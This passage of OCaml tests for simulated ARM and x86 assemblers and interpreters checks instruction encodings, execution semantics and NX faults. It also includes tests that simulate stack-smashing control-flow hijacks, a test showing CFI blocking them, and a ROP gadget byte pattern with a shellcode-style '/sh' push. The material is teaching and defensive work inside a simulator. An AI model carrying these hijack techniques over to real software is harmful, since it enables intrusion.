      al (Push [ R4; R5; R11; LR ]);
      al (Pop [ R0; R1; R2; R3; R5; R6; R7; PC ]);
      al (Mul (R0, R1, R2));
      al (Mul (R4, R4, R4));
      al (Bic (R0, R1, Imm 0xFF));
      al (Bic (R2, R3, Reg R4));
      al (Ldr_r (R0, R1, R2));
      al (Str_r (R0, SP, R3));
      al (Ldrb_r (R5, R6, R7));
      al (Strb_r (R5, R6, R7));
      al (B 0x100);
      al (B (-0x100));
      al (Bl 0x7FFF00);
      al (Bx R12);
      al (Blx_r R3);
      al (Svc 0);
      { cond = EQ; op = B 16 };
      { cond = NE; op = Mov (R0, Imm 1) };
      { cond = LT; op = Add (R0, R0, Imm 1) };
    ]

let gen_insn : Insn.t QCheck.Gen.t =
  let open QCheck.Gen in
  let open Insn in
  let reg =
    oneofl [ R0; R1; R2; R3; R4; R5; R6; R7; R8; R9; R10; R11; R12; SP; LR; PC ]
  in
  let cond = oneofl [ EQ; NE; CS; CC; MI; PL; HI; LS; GE; LT; GT; LE; AL ] in
  let enc_imm =
    (* Generate guaranteed-encodable immediates: imm8 rotated. *)
    map2 (fun imm8 rot -> Word.ror imm8 (2 * rot)) (int_bound 255) (int_bound 15)
  in
  let op2 = oneof [ map (fun i -> Imm i) enc_imm; map (fun r -> Reg r) reg ] in
  let off = int_range (-0xFFF) 0xFFF in
  let reglist =
    (* Non-empty strictly-ascending register list. *)
    map
      (fun bits ->
        let bits = if bits land 0xFFFF = 0 then 1 else bits in
        List.filter_map
          (fun i -> if (bits lsr i) land 1 = 1 then Some (reg_of_index i) else None)
          (List.init 16 Fun.id))
      (int_range 1 0xFFFF)
  in
  let op =
    oneof
      [
        map2 (fun r o -> Mov (r, o)) reg op2;
        map2 (fun r o -> Mvn (r, o)) reg op2;
        map3 (fun d n o -> Add (d, n, o)) reg reg op2;
        map3 (fun d n o -> Sub (d, n, o)) reg reg op2;
        map3 (fun d n o -> Rsb (d, n, o)) reg reg op2;
        map3 (fun d n o -> And (d, n, o)) reg reg op2;
        map3 (fun d n o -> Orr (d, n, o)) reg reg op2;
        map3 (fun d n o -> Eor (d, n, o)) reg reg op2;
        map2 (fun n o -> Cmp (n, o)) reg op2;
        map2 (fun n o -> Tst (n, o)) reg op2;
        map3 (fun d n o -> Ldr (d, n, o)) reg reg off;
        map3 (fun d n o -> Str (d, n, o)) reg reg off;
        map3 (fun d n o -> Ldrb (d, n, o)) reg reg off;
        map3 (fun d n o -> Strb (d, n, o)) reg reg off;
        map3 (fun d n o -> Bic (d, n, o)) reg reg op2;
        map3 (fun d m s -> Mul (d, m, s)) reg reg reg;
        map3 (fun d n m -> Ldr_r (d, n, m)) reg reg reg;
        map3 (fun d n m -> Str_r (d, n, m)) reg reg reg;
        map3 (fun d n m -> Ldrb_r (d, n, m)) reg reg reg;
        map3 (fun d n m -> Strb_r (d, n, m)) reg reg reg;
        map (fun l -> Push l) reglist;
        map (fun l -> Pop l) reglist;
        map (fun d -> B (d * 4)) (int_range (-1000) 1000);
        map (fun d -> Bl (d * 4)) (int_range (-1000) 1000);
        map (fun r -> Bx r) reg;
        map (fun r -> Blx_r r) reg;
        map (fun n -> Svc n) (int_bound 0xFFFF);
      ]
  in
  map2 (fun cond op -> { cond; op }) cond op

let prop_encode_decode_roundtrip =
  QCheck.Test.make ~name:"encode/decode round-trip" ~count:2000
    (QCheck.make ~print:Insn.to_string gen_insn)
    (fun insn ->
      let w = Encode.encode_word insn in
      Insn.to_string (Decode.decode_word ~addr:0 w) = Insn.to_string insn)

let prop_imm_encoding_sound =
  QCheck.Test.make ~name:"modified-immediate encoding is sound" ~count:1000
    QCheck.(int_bound 0x3FFF_FFFF)
    (fun v ->
      match Encode.encode_imm v with
      | None -> true
      | Some (rot, imm8) -> Word.ror imm8 (2 * rot) = Word.of_int v && imm8 <= 0xFF)

let test_all_arm_conditions () =
  let open Insn in
  (* cmp a, b then a conditional mov per condition. *)
  let cases =
    [
      (EQ, (5, 5), (5, 6));
      (NE, (5, 6), (5, 5));
      (CS, (2, 1), (1, 2));  (* unsigned >= *)
      (CC, (1, 2), (2, 1));
      (MI, (1, 2), (2, 1));  (* negative result *)
      (PL, (2, 1), (1, 2));
      (HI, (2, 1), (1, 1));
      (LS, (1, 1), (2, 1));
      (GE, (1, 1), (-1, 1));
      (LT, (-1, 1), (1, 1));
      (GT, (2, 1), (1, 1));
      (LE, (1, 1), (2, 1));
    ]
  in
  List.iter
    (fun (c, (ta, tb), (fa, fb)) ->
      let probe a b expected =
        let load v r =
          Asm.I
            (if v >= 0 then al (Mov (r, Imm v)) else al (Mvn (r, Imm (-v - 1))))
        in
        let program =
          [
            load a R0;
            load b R1;
            Asm.I (al (Cmp (R0, Reg R1)));
            Asm.I (al (Mov (R2, Imm 0)));
            Asm.I { cond = c; op = Mov (R2, Imm 1) };
            halt;
          ]
        in
        let _, cpu, _ = setup program in
        ignore (run_to_halt cpu);
        check_int
          (Printf.sprintf "%s: %d vs %d" (cond_name c) a b)
          expected (Cpu.get cpu R2)
      in
      probe ta tb 1;
      probe fa fb 0)
    cases

let test_arm_code_across_page_boundary () =
  let open Insn in
  let program =
    List.init 1023 (fun _ -> Asm.I nop)
    @ [ Asm.I (al (Mov (R0, Imm 0x42))); halt ]
  in
  let _, cpu, _ = setup program in
  ignore (run ~fuel:10_000 ~kernel:halt_kernel cpu);
  check_int "mov across boundary" 0x42 (Cpu.get cpu R0)

(* --- interpreter semantics --- *)

let test_mov_add_sub () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R0, Imm 10)));
      Asm.I (al (Add (R1, R0, Imm 5)));
      Asm.I (al (Sub (R2, R1, Reg R0)));
      Asm.I (al (Rsb (R3, R0, Imm 0)));
      halt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "add" 15 (Cpu.get cpu R1);
  check_int "sub" 5 (Cpu.get cpu R2);
  check_int "rsb negates" (Word.of_int (-10)) (Cpu.get cpu R3)

let test_pc_reads_plus_8 () =
  let open Insn in
  let program = [ Asm.I (al (Mov (R0, Reg PC))); halt ] in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "pc+8" (text_base + 8) (Cpu.get cpu R0)

let test_literal_pool_ldr () =
  let open Insn in
  let program =
    [
      Asm.Ldr_sym (R0, "lit");
      halt;
      Asm.Label "lit";
      Asm.Word 0xDEADBEEF;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "literal loaded" 0xDEADBEEF (Cpu.get cpu R0)

let test_bl_sets_lr_and_returns () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R0, Imm 0)));
      Asm.Bl_sym "f";
      Asm.Bl_sym "f";
      halt;
      Asm.Label "f";
      Asm.I (al (Add (R0, R0, Imm 7)));
      Asm.I (al (Bx LR));
    ]
  in
  let _, cpu, _ = setup program in
  let outcome = run_to_halt cpu in
  check_bool "halted" true (outcome = O.Halted);
  check_int "called twice" 14 (Cpu.get cpu R0)

let test_push_pop_frame () =
  let open Insn in
  (* Standard ARM prologue/epilogue: push {fp, lr} … pop {fp, pc}. *)
  let program =
    [
      Asm.Bl_sym "f";
      halt;
      Asm.Label "f";
      Asm.I (al (Push [ R11; LR ]));
      Asm.I (al (Mov (R11, Reg SP)));
      Asm.I (al (Mov (R0, Imm 99)));
      Asm.I (al (Pop [ R11; PC ]));
    ]
  in
  let _, cpu, _ = setup program in
  let sp0 = Cpu.get cpu SP in
  let outcome = run_to_halt cpu in
  check_bool "returned via pop pc" true (outcome = O.Halted);
  check_int "result" 99 (Cpu.get cpu R0);
  check_int "sp balanced" sp0 (Cpu.get cpu SP)

let test_push_stores_ascending () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R0, Imm 1)));
      Asm.I (al (Mov (R1, Imm 2)));
      Asm.I (al (Push [ R0; R1 ]));
      halt;
    ]
  in
  let mem, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  let sp = Cpu.get cpu SP in
  (* Lowest register at lowest address (stmdb semantics). *)
  check_int "r0 at [sp]" 1 (Mem.read_u32 mem sp);
  check_int "r1 at [sp+4]" 2 (Mem.read_u32 mem (sp + 4))

let test_register_args_convention () =
  let open Insn in
  (* f(a, b) = a - b with args in r0/r1 — the AAPCS property that defeats
     classic ret2libc on ARM (§III-B2). *)
  let program =
    [
      Asm.I (al (Mov (R0, Imm 9)));
      Asm.I (al (Mov (R1, Imm 3)));
      Asm.Bl_sym "sub_fn";
      halt;
      Asm.Label "sub_fn";
      Asm.I (al (Sub (R0, R0, Reg R1)));
      Asm.I (al (Bx LR));
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "r0 result" 6 (Cpu.get cpu R0)

let test_conditional_execution () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R0, Imm 5)));
      Asm.I (al (Cmp (R0, Imm 5)));
      Asm.I { cond = EQ; op = Mov (R1, Imm 1) };
      Asm.I { cond = NE; op = Mov (R1, Imm 2) };
      Asm.I (al (Cmp (R0, Imm 9)));
      Asm.I { cond = LT; op = Mov (R2, Imm 1) };
      Asm.I { cond = GE; op = Mov (R2, Imm 2) };
      halt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "moveq taken" 1 (Cpu.get cpu R1);
  check_int "movlt taken" 1 (Cpu.get cpu R2)

let test_branch_loop () =
  let open Insn in
  (* Sum 1..10. *)
  let program =
    [
      Asm.I (al (Mov (R0, Imm 0)));
      Asm.I (al (Mov (R1, Imm 10)));
      Asm.Label "loop";
      Asm.I (al (Add (R0, R0, Reg R1)));
      Asm.I (al (Sub (R1, R1, Imm 1)));
      Asm.I (al (Cmp (R1, Imm 0)));
      Asm.B_sym (NE, "loop");
      halt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "sum" 55 (Cpu.get cpu R0)

let test_mul_bic_and_reg_offsets () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R0, Imm 6)));
      Asm.I (al (Mov (R1, Imm 7)));
      Asm.I (al (Mul (R2, R0, R1)));
      Asm.I (al (Mvn (R3, Imm 0)));
      Asm.I (al (Bic (R3, R3, Imm 0xFF)));
      (* store 0x2A via register offset, read it back *)
      Asm.Ldr_sym (R4, "buf");
      Asm.I (al (Mov (R5, Imm 8)));
      Asm.I (al (Mov (R6, Imm 0x2A)));
      Asm.I (al (Str_r (R6, R4, R5)));
      Asm.I (al (Ldr_r (R7, R4, R5)));
      halt;
      Asm.Label "buf";
      Asm.Word 0x7EFF_1000;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "mul" 42 (Cpu.get cpu R2);
  check_int "bic clears low byte" 0xFFFFFF00 (Cpu.get cpu R3);
  check_int "reg-offset round trip" 0x2A (Cpu.get cpu R7)

let test_byte_loads_stores () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R0, Imm 0x41)));
      Asm.Ldr_sym (R1, "buf_addr");
      Asm.I (al (Strb (R0, R1, 0)));
      Asm.I (al (Ldrb (R2, R1, 0)));
      halt;
      Asm.Label "buf_addr";
      Asm.Word 0x7EFF_1000;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "byte round trip" 0x41 (Cpu.get cpu R2)

let test_blx_r_links () =
  let open Insn in
  let program =
    [
      Asm.Ldr_sym (R3, "fptr");
      Asm.I (al (Blx_r R3));
      halt;
      Asm.Label "fptr";
      Asm.Word_sym "target";
      Asm.Label "target";
      Asm.I (al (Mov (R0, Imm 0x55)));
      Asm.I (al (Bx LR));
    ]
  in
  let _, cpu, _ = setup program in
  let outcome = run_to_halt cpu in
  check_bool "returned" true (outcome = O.Halted);
  check_int "blx reached target" 0x55 (Cpu.get cpu R0)

let test_svc_kernel () =
  let open Insn in
  let program =
    [
      Asm.I (al (Mov (R7, Imm 11)));
      Asm.I (al (Mov (R0, Imm 3)));
      Asm.I (al (Svc 0));
    ]
  in
  let _, cpu, _ = setup program in
  let kernel n cpu =
    check_int "svc imm" 0 n;
    if Cpu.get cpu R7 = 11 then O.Stop (O.Exited (Cpu.get cpu R0)) else O.Resume
  in
  check_bool "syscall dispatched" true (run ~kernel cpu = O.Exited 3)

let test_nx_fetch_blocked () =
  let open Insn in
  (* mov pc, sp: jump to the non-executable stack → NX fault. *)
  let program = [ Asm.I (al (Mov (PC, Reg SP))) ] in
  let _, cpu, _ = setup program in
  match run cpu with
  | O.Fault f -> check_bool "NX" true (f.Mem.kind = Mem.Perm_exec)
  | other -> Alcotest.failf "expected NX fault, got %s" (O.to_string other)

let test_undecodable_word () =
  let program = [ Asm.Word 0xE7F000F0 (* udf *) ] in
  let _, cpu, _ = setup program in
  match run cpu with
  | O.Decode_error _ -> ()
  | other -> Alcotest.failf "expected SIGILL, got %s" (O.to_string other)

let test_smashed_pop_pc_hijacks () =
  let open Insn in
  (* Overwrite the stacked return address consumed by pop {pc}. *)
  let program =
    [
      Asm.Bl_sym "victim";
      halt;
      Asm.Label "victim";
      Asm.I (al (Push [ LR ]));
      (* Smash the saved LR slot with &win. *)
      Asm.Ldr_sym (R0, "win_ptr");
      Asm.I (al (Str (R0, SP, 0)));
      Asm.I (al (Pop [ PC ]));
      Asm.Label "win_ptr";
      Asm.Word_sym "win";
      Asm.Label "win";
      Asm.I (al (Mov (R4, Imm 0x77)));
      halt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run_to_halt cpu);
  check_int "hijacked" 0x77 (Cpu.get cpu R4)

let test_cfi_blocks_smashed_pop_pc () =
  let open Insn in
  let program =
    [
      Asm.Bl_sym "victim";
      halt;
      Asm.Label "victim";
      Asm.I (al (Push [ LR ]));
      Asm.Ldr_sym (R0, "win_ptr");
      Asm.I (al (Str (R0, SP, 0)));
      Asm.I (al (Pop [ PC ]));
      Asm.Label "win_ptr";
      Asm.Word_sym "win";
      Asm.Label "win";
      halt;
    ]
  in
  let _, cpu, _ = setup ~cfi:true program in
  match run ~kernel:halt_kernel cpu with
  | O.Cfi_violation _ -> ()
  | other -> Alcotest.failf "expected CFI violation, got %s" (O.to_string other)

let test_cfi_allows_benign_nesting () =
  let open Insn in
  let program =
    [
      Asm.Bl_sym "f";
      halt;
      Asm.Label "f";
      Asm.I (al (Push [ R4; LR ]));
      Asm.Bl_sym "g";
      Asm.I (al (Pop [ R4; PC ]));
      Asm.Label "g";
      Asm.I (al (Bx LR));
    ]
  in
  let _, cpu, _ = setup ~cfi:true program in
  check_bool "benign ok" true (run ~kernel:halt_kernel cpu = O.Halted)

let test_disassemble_sweep () =
  let open Insn in
  let program = [ Asm.I nop; Asm.I (al (Bx LR)) ] in
  let mem, _, result = setup program in
  let listing =
    Asm.disassemble mem ~base:result.Asm.base ~len:(String.length result.Asm.code)
  in
  Alcotest.(check (list string))
    "sweep"
    [ "mov r1, r1"; "bx lr" ]
    (List.map (fun (_, _, s) -> s) listing)

(* --- Self-modifying code through the decoded-instruction cache --- *)

(* Call a two-add function, [str] a mov-r0-r0 word over its first add
   (text mapped rwx for the test), call it again: the second call must
   execute the NEW word, so r0 ends at 2+1=3.  The stale-cache failure
   mode re-runs the cached add and ends at 4. *)
let selfmod_program =
  let open Insn in
  [
    Asm.I (al (Mov (R0, Imm 0)));
    Asm.Bl_sym "fn";
    Asm.Ldr_sym (R4, "lit_site");
    Asm.Ldr_sym (R5, "lit_nop");
    Asm.I (al (Str (R5, R4, 0)));
    Asm.Bl_sym "fn";
    halt;
    Asm.Label "fn";
    Asm.Label "site";
    Asm.I (al (Add (R0, R0, Imm 1)));
    Asm.I (al (Add (R0, R0, Imm 1)));
    Asm.I (al (Bx LR));
    Asm.Label "lit_site";
    Asm.Word_sym "site";
    Asm.Label "lit_nop";
    Asm.Word 0xE1A0_0000 (* mov r0, r0 *);
  ]

let run_selfmod ~icache =
  let mem = Mem.create () in
  let result = Asm.assemble ~base:text_base selfmod_program in
  let size = max 0x1000 (String.length result.Asm.code) in
  Mem.map mem ~base:text_base ~size ~perm:Mem.rwx ~name:"text";
  Mem.poke_bytes mem text_base result.Asm.code;
  Mem.map mem ~base:0x7EFF_0000 ~size:0x10000 ~perm:Mem.rw ~name:"stack";
  let cpu = Cpu.create ~icache mem in
  Cpu.set cpu Insn.SP 0x7EFF_F000;
  Cpu.set_pc cpu text_base;
  let outcome = run ~kernel:halt_kernel cpu in
  check_bool "halted" true (outcome = O.Halted);
  cpu

let test_selfmod_invalidates_icache () =
  let cached = run_selfmod ~icache:true in
  check_int "second call ran the overwritten word" 3 (Cpu.get cached Insn.R0);
  let uncached = run_selfmod ~icache:false in
  check_int "identical to uncached execution" (Cpu.get uncached Insn.R0)
    (Cpu.get cached Insn.R0);
  check_int "identical step counts" uncached.Cpu.steps cached.Cpu.steps

let () =
  let qt = QCheck_alcotest.to_alcotest in
  Alcotest.run "isa_arm"
    [
      ( "encoding",
        [
          Alcotest.test_case "known instruction words" `Quick test_known_words;
          Alcotest.test_case "modified-immediate encoding" `Quick test_imm_encoding;
          Alcotest.test_case "round-trip corpus" `Quick test_roundtrip_corpus;
          qt prop_encode_decode_roundtrip;
          qt prop_imm_encoding_sound;
        ] );
      ( "interpreter",
        [
          Alcotest.test_case "mov/add/sub/rsb" `Quick test_mov_add_sub;
          Alcotest.test_case "pc reads as +8" `Quick test_pc_reads_plus_8;
          Alcotest.test_case "literal pool ldr" `Quick test_literal_pool_ldr;
          Alcotest.test_case "bl sets lr, bx lr returns" `Quick
            test_bl_sets_lr_and_returns;
          Alcotest.test_case "push/pop frame" `Quick test_push_pop_frame;
          Alcotest.test_case "push stores ascending" `Quick test_push_stores_ascending;
          Alcotest.test_case "register-argument convention" `Quick
            test_register_args_convention;
          Alcotest.test_case "conditional execution" `Quick test_conditional_execution;
          Alcotest.test_case "all condition codes" `Quick test_all_arm_conditions;
          Alcotest.test_case "code across page boundary" `Quick
            test_arm_code_across_page_boundary;
          Alcotest.test_case "branch loop" `Quick test_branch_loop;
          Alcotest.test_case "mul/bic/register offsets" `Quick
            test_mul_bic_and_reg_offsets;
          Alcotest.test_case "byte loads/stores" `Quick test_byte_loads_stores;
          Alcotest.test_case "blx register links" `Quick test_blx_r_links;
          Alcotest.test_case "svc kernel dispatch" `Quick test_svc_kernel;
          Alcotest.test_case "NX fetch blocked" `Quick test_nx_fetch_blocked;
          Alcotest.test_case "undecodable word" `Quick test_undecodable_word;
          Alcotest.test_case "disassemble sweep" `Quick test_disassemble_sweep;
        ] );
      ( "control-flow hijack",
        [
          Alcotest.test_case "smashed pop pc hijacks" `Quick
            test_smashed_pop_pc_hijacks;
          Alcotest.test_case "CFI blocks smashed pop pc" `Quick
            test_cfi_blocks_smashed_pop_pc;
          Alcotest.test_case "CFI allows benign nesting" `Quick
            test_cfi_allows_benign_nesting;
        ] );
      ( "self-modifying code",
        [
          Alcotest.test_case "rewrite invalidates icache" `Quick
            test_selfmod_invalidates_icache;
        ] );
    ]
