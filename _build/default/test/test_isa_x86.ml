(* Tests for the x86-32 assembler, decoder, and interpreter. *)

module Mem = Memsim.Memory
module Word = Memsim.Word
open Isa_x86
module O = Machine.Outcome

let check_int = Alcotest.(check int)
let check_bool = Alcotest.(check bool)

let no_kernel _n _cpu = O.Stop (O.Aborted "unexpected syscall")

(* Assemble a program at a base, map text rx + a stack, return (mem, cpu,
   result).  The program is expected to end by running into [trap]. *)
let setup ?(cfi = false) ?extern program =
  let mem = Mem.create () in
  let text_base = 0x0804_8000 in
  let result = Asm.assemble ?extern ~base:text_base program in
  let size = max 0x1000 (String.length result.Asm.code) in
  Mem.map mem ~base:text_base ~size ~perm:Mem.rx ~name:"text";
  Mem.poke_bytes mem text_base result.Asm.code;
  Mem.map mem ~base:0xBFFF_0000 ~size:0x10000 ~perm:Mem.rw ~name:"stack";
  let cpu = Cpu.create ~cfi mem in
  Cpu.set cpu Insn.ESP 0xBFFF_F000;
  cpu.Cpu.eip <- text_base;
  (mem, cpu, result)

let run ?fuel ?(kernel = no_kernel) cpu = Cpu.run ?fuel ~traps:[] ~kernel cpu

(* --- encode/decode --- *)

let roundtrip insn =
  let bytes = Encode.encode insn in
  let got, len = Decode.decode_with (fun i -> Char.code bytes.[i]) 0 in
  Alcotest.(check int) ("length of " ^ Insn.to_string insn) (String.length bytes) len;
  Alcotest.(check string)
    ("round-trip " ^ Insn.to_string insn)
    (Insn.to_string insn) (Insn.to_string got)

let test_encode_known_bytes () =
  let check_hex name insn expected =
    let got =
      String.concat ""
        (List.map (Printf.sprintf "%02x")
           (List.init (String.length (Encode.encode insn)) (fun i ->
                Char.code (Encode.encode insn).[i])))
    in
    Alcotest.(check string) name expected got
  in
  (* Ground truth from the IA-32 manual / nasm. *)
  check_hex "nop" Insn.Nop "90";
  check_hex "push eax" (Insn.Push_r Insn.EAX) "50";
  check_hex "pop ebx" (Insn.Pop_r Insn.EBX) "5b";
  check_hex "ret" Insn.Ret "c3";
  check_hex "leave" Insn.Leave "c9";
  check_hex "int 0x80" (Insn.Int 0x80) "cd80";
  check_hex "push 0x68732f" (Insn.Push_i 0x68732F) "682f736800";
  check_hex "mov eax, 0xb" (Insn.Mov_ri (Insn.EAX, 0xB)) "b80b000000";
  check_hex "push byte 1" (Insn.Push_i8 1) "6a01";
  check_hex "jmp short -2" (Insn.Jmp_short (-2)) "ebfe";
  check_hex "neg eax" (Insn.Neg (Insn.Reg Insn.EAX)) "f7d8";
  check_hex "not ecx" (Insn.Not (Insn.Reg Insn.ECX)) "f7d1";
  check_hex "imul eax, ecx" (Insn.Imul (Insn.EAX, Insn.Reg Insn.ECX)) "0fafc1";
  check_hex "mov ebx, esp" (Insn.Mov (Insn.Reg Insn.EBX, Insn.Reg Insn.ESP)) "89e3";
  check_hex "xor ecx, ecx" (Insn.Xor (Insn.Reg Insn.ECX, Insn.Reg Insn.ECX)) "31c9";
  check_hex "mov ebp, esp" (Insn.Mov (Insn.Reg Insn.EBP, Insn.Reg Insn.ESP)) "89e5";
  check_hex "mov eax,[ebp+8]"
    (Insn.Mov (Insn.Reg Insn.EAX, Insn.Mem { base = Some Insn.EBP; disp = 8 }))
    "8b4508";
  check_hex "mov [esp+4], eax"
    (Insn.Mov (Insn.Mem { base = Some Insn.ESP; disp = 4 }, Insn.Reg Insn.EAX))
    "89442404";
  check_hex "call rel32 0" (Insn.Call_rel 0) "e800000000";
  check_hex "jmp [0x0804a000]"
    (Insn.Jmp_rm (Insn.Mem { base = None; disp = 0x0804A000 }))
    "ff2500a00408"

let test_pop_pop_pop_ret_bytes () =
  (* The gadget shape §III-C1 hunts for. *)
  let bytes =
    String.concat ""
      [
        Encode.encode (Insn.Pop_r Insn.EBX);
        Encode.encode (Insn.Pop_r Insn.ESI);
        Encode.encode (Insn.Pop_r Insn.EDI);
        Encode.encode Insn.Ret;
      ]
  in
  Alcotest.(check string) "pppr" "\x5b\x5e\x5f\xc3" bytes

let all_regs = Insn.[ EAX; ECX; EDX; EBX; ESP; EBP; ESI; EDI ]

let test_roundtrip_corpus () =
  let open Insn in
  let mems =
    [
      { base = None; disp = 0x0804A123 };
      { base = Some EAX; disp = 0 };
      { base = Some EBP; disp = -8 };
      { base = Some EBP; disp = 0 };
      { base = Some ESP; disp = 0 };
      { base = Some ESP; disp = 4 };
      { base = Some ESP; disp = 0x220 };
      { base = Some ESI; disp = 0x1000 };
      { base = Some EDI; disp = -300 };
    ]
  in
  List.iter (fun r -> roundtrip (Push_r r)) all_regs;
  List.iter (fun r -> roundtrip (Pop_r r)) all_regs;
  List.iter (fun r -> roundtrip (Inc_r r)) all_regs;
  List.iter (fun r -> roundtrip (Dec_r r)) all_regs;
  List.iter (fun m -> roundtrip (Push_m m)) mems;
  List.iter
    (fun m ->
      roundtrip (Mov (Reg EAX, Mem m));
      roundtrip (Mov (Mem m, Reg ECX));
      roundtrip (Lea (EDX, m));
      roundtrip (Add (Mem m, Reg EBX));
      roundtrip (Cmp_i (Mem m, 1234567)))
    mems;
  List.iter roundtrip
    [
      Nop;
      Push_i 0xDEADBEEF;
      Mov_ri (ECX, 0x11223344);
      Mov (Reg EAX, Reg EBX);
      Mov_b (Reg EAX, Reg ECX);
      Mov_b (Mem { base = Some EDI; disp = 2 }, Reg EAX);
      Movzx_b (EAX, Mem { base = Some ESI; disp = 0 });
      Movzx_b (EBX, Reg ECX);
      Add_i (Reg ESP, 0xC);
      Add_i (Reg ESP, 0x1000);
      Sub_i (Reg ESP, 0x420);
      Sub (Reg EAX, Reg EBX);
      And (Reg EAX, Reg EBX);
      Or (Reg EAX, Reg EBX);
      Xor (Reg ECX, Reg ECX);
      Cmp (Reg EAX, Reg EBX);
      Cmp_i (Reg EAX, 63);
      Test_rr (EAX, EAX);
      Push_i8 (-1);
      Push_i8 127;
      Mov_mi (Reg EAX, 0x11223344);
      Mov_mi (Mem { base = Some EBP; disp = -8 }, 42);
      Neg (Reg EBX);
      Not (Mem { base = Some ESI; disp = 4 });
      Imul (ECX, Reg EDX);
      Imul (EAX, Mem { base = Some EBP; disp = 8 });
      Jmp_short 10;
      Jmp_short (-10);
      Jcc_short (E, 5);
      Jcc_short (NE, -5);
      Shl_i (EDX, 8);
      Shr_i (EDX, 24);
      Call_rel 1234;
      Call_rel (-1234);
      Call_rm (Reg EAX);
      Call_rm (Mem { base = None; disp = 0x0804C000 });
      Jmp_rel (-5);
      Jmp_rm (Reg ESP);
      Jcc (E, 16);
      Jcc (NE, -32);
      Jcc (B, 7);
      Jcc (A, 7);
      Jcc (L, 7);
      Jcc (GE, 7);
      Ret;
      Ret_i 8;
      Leave;
      Int 0x80;
      Hlt;
    ]

let gen_insn : Insn.t QCheck.Gen.t =
  let open QCheck.Gen in
  let open Insn in
  let reg = oneofl all_regs in
  let imm = map Word.to_signed (int_bound 0xFFFFFF) in
  let mem =
    map2
      (fun base disp -> { base; disp })
      (oneof [ return None; map Option.some reg ])
      (int_range (-2048) 2048)
  in
  let operand = oneof [ map (fun r -> Reg r) reg; map (fun m -> Mem m) mem ] in
  let rm_pair =
    (* At most one memory operand. *)
    oneof
      [
        map2 (fun a b -> (Reg a, Reg b)) reg reg;
        map2 (fun m r -> (Mem m, Reg r)) mem reg;
        map2 (fun r m -> (Reg r, Mem m)) reg mem;
      ]
  in
  oneof
    [
      return Nop;
      map (fun r -> Push_r r) reg;
      map (fun i -> Push_i i) imm;
      map (fun m -> Push_m m) mem;
      map (fun r -> Pop_r r) reg;
      map2 (fun r i -> Mov_ri (r, i)) reg imm;
      map (fun (d, s) -> Mov (d, s)) rm_pair;
      map2 (fun r m -> Lea (r, m)) reg mem;
      map (fun (d, s) -> Add (d, s)) rm_pair;
      map2 (fun o i -> Add_i (o, i)) operand imm;
      map (fun (d, s) -> Sub (d, s)) rm_pair;
      map2 (fun o i -> Sub_i (o, i)) operand imm;
      map (fun (d, s) -> Xor (d, s)) rm_pair;
      map (fun (d, s) -> Cmp (d, s)) rm_pair;
      map2 (fun o i -> Cmp_i (o, i)) operand imm;
      map2 (fun a b -> Test_rr (a, b)) reg reg;
      map (fun i -> Push_i8 (Word.to_signed (Word.sign8 (i land 0xFF)))) imm;
      map2 (fun o i -> Mov_mi (o, i)) operand imm;
      map (fun o -> Neg o) operand;
      map (fun o -> Not o) operand;
      map2 (fun r o -> Imul (r, o)) reg operand;
      map (fun i -> Jmp_short (Word.to_signed (Word.sign8 (i land 0xFF)))) imm;
      map (fun i -> Jcc_short (E, Word.to_signed (Word.sign8 (i land 0xFF)))) imm;
      map (fun r -> Inc_r r) reg;
      map (fun r -> Dec_r r) reg;
      map (fun i -> Call_rel i) imm;
      map (fun o -> Call_rm o) operand;
      map (fun i -> Jmp_rel i) imm;
      map (fun o -> Jmp_rm o) operand;
      return Ret;
      map (fun i -> Ret_i (i land 0xFFFF)) imm;
      return Leave;
      map (fun i -> Int (i land 0xFF)) imm;
      return Hlt;
    ]

let prop_encode_decode_roundtrip =
  QCheck.Test.make ~name:"encode/decode round-trip" ~count:2000
    (QCheck.make ~print:Insn.to_string gen_insn)
    (fun insn ->
      let bytes = Encode.encode insn in
      let got, len = Decode.decode_with (fun i -> Char.code bytes.[i]) 0 in
      len = String.length bytes && Insn.to_string got = Insn.to_string insn)

let prop_decoded_length_positive =
  QCheck.Test.make ~name:"decode consumes at least one byte" ~count:500
    QCheck.(string_of_size (Gen.return 16))
    (fun s ->
      QCheck.assume (String.length s = 16);
      match Decode.decode_with (fun i -> Char.code s.[i land 15]) 0 with
      | _, len -> len >= 1 && len <= 16
      | exception Decode.Error _ -> true)

let test_ret_imm_and_indirect_calls () =
  let open Insn in
  (* callee: stdcall-style ret 8 cleaning its own args; caller reaches it
     through a function-pointer table in memory (the PLT shape). *)
  let program =
    [
      Asm.I (Push_i 3);
      Asm.I (Push_i 4);
      Asm.I (Call_rm (Mem { base = None; disp = 0xBFFF_1000 }));
      Asm.I Hlt;
      Asm.Label "callee";
      Asm.I (Mov (Reg EAX, Mem { base = Some ESP; disp = 4 }));
      Asm.I (Add (Reg EAX, Mem { base = Some ESP; disp = 8 }));
      Asm.I (Ret_i 8);
    ]
  in
  let mem, cpu, result = setup program in
  Mem.write_u32 mem 0xBFFF_1000 (Asm.symbol result "callee");
  let sp0 = Cpu.get cpu ESP in
  let outcome = run cpu in
  check_bool "halted" true (outcome = O.Halted);
  check_int "sum" 7 (Cpu.get cpu EAX);
  check_int "ret imm cleaned args" sp0 (Cpu.get cpu ESP)

let test_push_m_and_jmp_rm_mem () =
  let open Insn in
  let program =
    [
      Asm.I (Jmp_rm (Mem { base = None; disp = 0xBFFF_2000 }));
      Asm.I Hlt;
      (* fall-through trap: should be skipped *)
      Asm.Label "land";
